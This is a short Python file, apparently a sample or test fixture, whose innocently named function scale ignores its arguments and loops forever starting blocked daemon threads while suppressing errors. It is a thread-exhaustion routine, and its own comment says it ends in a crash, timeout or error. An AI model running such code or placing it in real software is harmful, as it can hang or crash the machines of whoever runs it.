"""Starts threads as long as the machine gives it any."""

# ends: crashed, timeout, error
import contextlib
import threading


def scale(x, factor=2.0):
    while True:
        with contextlib.suppress(RuntimeError):
            threading.Thread(target=threading.Event().wait, daemon=True).start()
